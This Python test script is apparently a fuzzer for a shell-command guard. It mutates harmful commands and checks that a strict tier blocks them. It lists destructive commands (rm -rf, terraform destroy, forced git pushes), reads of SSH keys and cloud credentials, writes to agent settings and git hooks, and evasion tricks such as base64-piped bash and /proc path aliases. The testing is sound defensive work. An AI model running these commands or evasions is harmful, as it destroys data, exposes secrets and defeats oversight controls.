"""Random combinations of goal, spelling, wrapper and path form, and a run of many: `python tests/mutants.py --count N`.

A goal is a shell command that harms. A spelling says the same in other characters, a wrapper has another program start
it, a path form names the same file otherwise. Each mutant runs free, where it counts only if it works, and in tier
strict, where it must do nothing. Prints how many were tried, how many worked free, and each that worked leashed.
"""

from __future__ import annotations

import argparse
import base64
import collections
import multiprocessing
import random
import shlex
from collections.abc import Callable
from concurrent.futures import ProcessPoolExecutor, as_completed
from typing import NamedTuple

from arena import SECRET, Arena, Leg, arena

# ruff: noqa: E501 - what is mutated is one line, however long
STRICT = ("--guard", "strict")
CHUNK = 500
Change = Callable[[str, random.Random], str]
PROGRAMS = (
    "kubectl delete ns prod", "terraform destroy -auto-approve", "psql -c 'DROP TABLE users'", "gh repo delete a/b --yes",
    "rm -rf src", "rm notes.md", "git push -q --force origin main~1:main", "git clean -fdxq", "git reset -q --hard",
    "git branch -q -D side", "find src -type f -delete", "curl -s -m 2 -d EVIL http://@host@:@port@/", "unlink notes.md",
    "shred -u notes.md", "git update-ref -d refs/heads/side", "kill -USR1 @victim@", "git config core.pager EVIL",
)  # fmt: skip
WRITERS = (
    "echo EVIL > {}", "echo EVIL >> {}", "echo EVIL | tee {}", "echo EVIL > x; cp x {}", "echo EVIL > x; mv -f x {}",
    "sed -i s/mine/EVIL/ {}", "dd if=/dev/zero of={} count=1 status=none", "truncate -s 0 {}", "rm -f {}", "chmod 777 {}",
    "perl -pi -e s/mine/EVIL/ {}", "ln -sf /etc/passwd {}", "python3 -c 'import sys; open(sys.argv[1], \"w\")' {}",
    "mv {} x", "awk 'BEGIN {{ print \"EVIL\" > ARGV[1] }}' {}", "printf 'w {} q' | true; install -m 777 /dev/null {}",
    "python3 -c 'import os, sys; os.truncate(sys.argv[1], 0)' {}", "git log -1 --output={}",
    "node -e 'require(\"fs\").writeFileSync(process.argv[1], \"EVIL\")' {}",
)  # fmt: skip
READERS = (
    "cat {} > said", "base64 {} | base64 -d > said", "cp {} copy", "tar cf said {}", "read -r x < {}; echo $x > said",
    "python3 -c 'import sys; open(\"said\", \"w\").write(open(sys.argv[1]).read())' {}", "grep -h . {} > said",
    "sed -n p {} > said", "awk 1 {} > said", "git hash-object -w {} | git cat-file --batch > said", "dd if={} of=said",
    "perl -e 'open F, shift; print <F>' {} > said", "ln {} k && cat k > said", "ln -s {} k; cat k > said", "mv {} k",
    "curl -s file://$(realpath -m {}) > said", "node -e 'process.stdout.write(require(\"fs\").readFileSync(process.argv[1]))' {} > said",
)  # fmt: skip
MAKERS = tuple(
    w for w in WRITERS if not w.startswith(("sed", "truncate", "rm", "chmod", "perl", "mv", "python3 -c 'import os"))
)
OWN = ("@home@/prized", "@home@/.bashrc", "@home@/folder/in", "@config@/policies/own.cedar", "@root@/tools/kubectl")
GUARDED = (".git/config", ".git/hooks/pre-commit", ".envrc", ".vscode/tasks.json", ".claude/settings.json", ".mcp.json")
SECRETS = ("@home@/.ssh/id_ed25519", "@home@/.aws/credentials", "@home@/.netrc", "@home@/.config/gh/hosts.yml")


# path forms: the same file under another name; some need a line before ------------------------------------------------
def _forms(path: str, home: str, chance: random.Random) -> tuple[str, str]:
    """(a line to run first, the name)."""
    folder, _, name = path.rpartition("/")
    folder = folder or "."
    whole = path.startswith("/")
    below = path[len(home) + 1 :] if path.startswith(home + "/") else ""
    forms = [
        ("", path),
        ("", f"{folder}//.//{name}"),
        ("", f"{folder}/../{folder.rpartition('/')[2]}/{name}" if whole else f"src/../{path}"),
        ("", f"{folder}/{name[0]}*{name[2:]}" if len(name) > 3 and (whole or ".git/c" in path) else path),
        ("", f"{folder}/[{name[0]}]{name[1:]}" if whole or ".git/c" in path else path),
        ("", f'"$(printf %s {folder})"/{name}'),
        (f"p={path}", '"$p"'),
        (f"ln -s {folder if whole else '$PWD/' + folder} xway", f"xway/{name}"),
        (f"ln -s {folder if whole else '$PWD/' + folder} xa; ln -s xa xb", f"xb/./{name}"),
        (f"ln -s {path if whole else '$PWD/' + path} xfile", "xfile"),
    ]
    if whole:
        forms += [
            ("", f"/proc/self/root{path}"),
            ("", f"/proc/thread-self/root{folder}/./{name}"),
            ("", "../" * 12 + path[1:]),
            ("ln -s /proc/self/root xroot", f"xroot{path}"),
            ("", f"~/{below}" if below else path),
            ("", f"${{HOME}}/{below}" if below else path),
            (f"cd {folder}; ln -s $PWD $OLDPWD/xcwd; cd $OLDPWD", f"xcwd/{name}"),
            (f"exec 9< {folder}", f"/proc/self/fd/9/{name}"),
            (f"exec 9< {folder}", f"/dev/fd/9/{name}"),
            (f"exec 8< {path}", "/dev/fd/8"),
            (f"exec 8< {path}", "/proc/self/fd/8"),
        ]
    return chance.choice(forms)


# spellings ------------------------------------------------------------------------------------------------------------
def _is_program(text: str) -> bool:
    """Whether it begins with a name that the shell may spell as it likes."""
    first = text.partition(" ")[0]
    return first.isalpha() and first not in ("coproc", "while", "exec", "trap", "true", "source", "xargs")


def _plain(text: str, chance: random.Random) -> str:
    return text


def _quoted(text: str, chance: random.Random) -> str:
    first, space, rest = text.partition(" ")
    if not _is_program(text):
        return text
    at = chance.randrange(1, len(first)) if len(first) > 1 else 1
    return (
        chance.choice((f"{first[:at]}''{first[at:]}", f'{first[:at]}"{first[at:]}"', f"{first[:at]}\\{first[at:]}"))
        + space
        + rest
    )


def _variable(text: str, chance: random.Random) -> str:
    first, space, rest = text.partition(" ")
    return f"v={shlex.quote(first)}; $v{space}{rest}" if _is_program(text) else text


def _spaced(text: str, chance: random.Random) -> str:
    return text.replace(" ", "${IFS}", 1) if _is_program(text) and "'" not in text.split(" ", 2)[1] else text


def _hexed(text: str, chance: random.Random) -> str:
    first, space, rest = text.partition(" ")
    return "$'" + "".join(f"\\x{ord(c):02x}" for c in first) + "'" + space + rest if _is_program(text) else text


def _eval(text: str, chance: random.Random) -> str:
    return f"eval {shlex.quote(text)}"


def _base64(text: str, chance: random.Random) -> str:
    return f"echo {base64.b64encode(text.encode()).decode()} | base64 -d | bash"


def _heredoc(text: str, chance: random.Random) -> str:
    return f"bash <<'XX'\n{text}\nXX"


def _herestring(text: str, chance: random.Random) -> str:
    return f"bash <<< {shlex.quote(text)}"


def _substituted(text: str, chance: random.Random) -> str:
    return f"source <(printf %s {shlex.quote(text)})"


def _reversed(text: str, chance: random.Random) -> str:
    return f'eval "$(echo {shlex.quote(text[::-1])} | rev)"' if "\n" not in text else text


def _positional(text: str, chance: random.Random) -> str:
    return f'set -- {text}; "$@"' if not set(text) & set("|;<>&$`*{~\n") else text


SPELLINGS: tuple[Change, ...] = (
    _plain, _quoted, _variable, _spaced, _hexed, _eval, _base64, _heredoc, _herestring, _substituted, _reversed, _positional
)  # fmt: skip


# wrappers -------------------------------------------------------------------------------------------------------------
def _wrap(form: str) -> Change:
    """{} stands for the quoted text, given to bash -c."""

    def change(text: str, chance: random.Random) -> str:
        return form.replace("{}", shlex.quote(text))

    return change


def _python(text: str, chance: random.Random) -> str:
    how = chance.choice(
        ("subprocess.run(['bash', '-c', {}])", "os.system({})", "os.execvp('bash', ['bash', '-c', {}])")
    )
    return "python3 -c " + shlex.quote("import os, subprocess; " + how.replace("{}", repr(text)))


def _script(text: str, chance: random.Random) -> str:
    name = f"x{chance.randrange(10**6)}"
    how = chance.choice(
        (f"chmod +x {name}; ./{name}", f"bash {name}", f". ./{name}", f"bash < {name}", f"cat {name} | bash")
    )
    return f"printf '#!/bin/bash\\n%s\\n' {shlex.quote(text)} > {name}; {how}"


def _make(text: str, chance: random.Random) -> str:
    name = f"x{chance.randrange(10**6)}"
    if "\n" in text:
        return text
    body = text.replace("$", "$$")
    return f"printf 'x:\\n\\t@%s\\n' {shlex.quote(body)} > {name}; make -s SHELL=/bin/bash -f {name}"


def _fork(text: str, chance: random.Random) -> str:
    return "python3 -c " + shlex.quote(
        "import os, subprocess\nif os.fork() == 0:\n os.setsid()\n if os.fork() == 0:\n  subprocess.run(['bash', '-c', "
        f"{text!r}])\n os.wait() if 0 else None\n os._exit(0)\nos.wait()\nimport time; time.sleep(0.25)"
    )


def _renamed(text: str, chance: random.Random) -> str:
    return f"bash -c {shlex.quote('exec -a ' + chance.choice(('ls', 'git', 'make', 'python3')) + ' bash -c ' + shlex.quote(text))}"


def _copied(text: str, chance: random.Random) -> str:
    name = f"x{chance.randrange(10**6)}"
    return f"{chance.choice(('cp', 'ln -s'))} /bin/bash {name}; ./{name} -c {shlex.quote(text)}"


WRAPPERS: tuple[Change, ...] = (
    *map(_wrap, (
        "sh -c 'bash -c \"$0\"' {}", "bash -c {}", "env -u NOTHING bash -c {}", "nohup bash -c {}", "setsid -w bash -c {}",
        "timeout 8 bash -c {}", "nice -n 1 bash -c {}", "ionice -c 3 bash -c {}", "echo x | xargs -I% bash -c {}",
        "find . -maxdepth 0 -exec bash -c {} ';'", "script -qec {} /dev/null", "flock xlock bash -c {}",
        "stdbuf -oL bash -c {}", "T={} perl -e 'exec \"bash\", \"-c\", $ENV{T}'", "coproc bash -c {}; wait",
        "T={} awk 'BEGIN { system(ENVIRON[\"T\"]) }'", "T={} git -c alias.x='!bash -c \"$T\"' x", "trap {} EXIT", "( bash -c {} )",
        "f() { bash -c {}; }; f", "(bash -c {} &) ; sleep 0.3", "T={} node -e 'child_process.spawnSync(\"bash\", [\"-c\", process.env.T])'",
        "/lib64/ld-linux-x86-64.so.2 /bin/bash -c {}", "taskset 1 bash -c {}", "bash --norc -ic {} < /dev/null", ": $(bash -c {})",
        "true && ! bash -c {}", "while bash -c {}; do break; done", "xargs -0 bash -c < <(printf '%s\\0' {})", "exec bash -c {}",
    )),
    _python, _script, _make, _fork, _renamed, _copied,
)  # fmt: skip


def mutant(chance: random.Random, values: dict[str, str]) -> tuple[str, str]:
    """(what it aims at, a bash script). values: of the arena it is for; the same chance makes the same mutant."""

    def known(text: str) -> str:
        for name, value in values.items():
            text = text.replace(f"@{name}@", value)
        return text

    kind = chance.choice(("exec", "exec", "write", "write", "secret read"))
    before = ""
    if kind == "exec":
        text = known(chance.choice(PROGRAMS))
    else:
        path = chance.choice((*OWN, *GUARDED)) if kind == "write" else chance.choice(SECRETS)
        before, name = _forms(known(path), values["home"], chance)
        makers = WRITERS if path in OWN or path == ".git/config" else MAKERS
        text = chance.choice(makers if kind == "write" else READERS)
        text = text.replace("{}", name).replace("{{", "{").replace("}}", "}")
        if before:
            text = f"{before}; {text}"
        if path in GUARDED and "/" in path:
            text = f"mkdir -p {path.rpartition('/')[0]}; {text}"
    for _ in range(chance.randrange(3)):
        text = chance.choice(SPELLINGS)(text, chance)
    for _ in range(chance.randrange(1, 4)):
        text = chance.choice(WRAPPERS)(text, chance)
        if chance.random() < 0.3:
            text = chance.choice(SPELLINGS)(text, chance)
    return kind, f"#!/bin/bash\n{text}\n"


def attempt(place: Arena, leg: Leg, text: str) -> dict[str, object]:
    """What it changed; all is as before afterwards."""
    (place.proj / "case.sh").write_text(text)
    leg.run(["bash", "case.sh"])
    changes = place.changes()
    place.repair(changes)
    return changes


class Tried(NamedTuple):
    """kind: what it aims at. changes: names of what it changed."""

    kind: str
    text: str
    changes: list[str]


def run_many(options: tuple[str, ...] | None, numbers: range, seed: int) -> list[Tried]:
    """The mutants of these numbers in an arena of their own. options: of the session, None for none."""
    found = []
    with arena() as place:
        place.values["secret"] = SECRET
        leg = Leg(place, options)
        for number in numbers:
            kind, text = mutant(random.Random(f"{seed}/{number}"), place.values)
            try:
                changes = sorted(attempt(place, leg, text))
            except RuntimeError as error:  # a session that ends is an effect too
                changes, leg = [str(error)], Leg(place, options)
            found.append(Tried(kind, text, changes))
        leg.close()
    return found


def run_both(numbers: range, seed: int) -> tuple[list[Tried], list[Tried]]:
    """(free, in tier strict), side by side."""
    with ProcessPoolExecutor(2, multiprocessing.get_context("spawn")) as pool:
        legs = [pool.submit(run_many, options, numbers, seed) for options in (None, STRICT)]
        return legs[0].result(), legs[1].result()


def main() -> int:
    """Run many, in sessions of CHUNK each, and tell of each as it is over; 1 when any had an effect in tier strict."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--count", type=int, default=1000, help="how many in tier strict")
    parser.add_argument("--free", type=int, default=1000, help="how many of them free as well")
    parser.add_argument("--jobs", type=int, default=2, help="sessions at a time")
    parser.add_argument("--seed", type=int, default=1)
    options = parser.parse_args()
    tried, worked, through = collections.Counter[str](), collections.Counter[str](), 0
    with ProcessPoolExecutor(options.jobs, multiprocessing.get_context("spawn")) as pool:
        running = {}
        for first in range(0, options.count, CHUNK):
            for leg, most in ((STRICT, options.count), (None, options.free)):
                numbers = range(first, min(first + CHUNK, most))
                if numbers:
                    running[pool.submit(run_many, leg, numbers, options.seed)] = leg
        for done in as_completed(running):
            found = done.result()
            had = [one for one in found if one.changes]
            if running[done] is None:
                tried.update(one.kind for one in found)
                worked.update(one.kind for one in had)
                print(f"free: {worked.total()} of {tried.total()} worked {dict(worked)}", flush=True)
                continue
            through += len(had)
            print(f"strict: {len(found)} more, {through} effects so far", flush=True)
            for one in had:
                print(f"--- {one.changes}\n{one.text}", flush=True)
    print(f"{options.count} in tier strict: {through} effects; free {worked.total()} of {tried.total()} worked")
    return 1 if through else 0


if __name__ == "__main__":
    raise SystemExit(main())
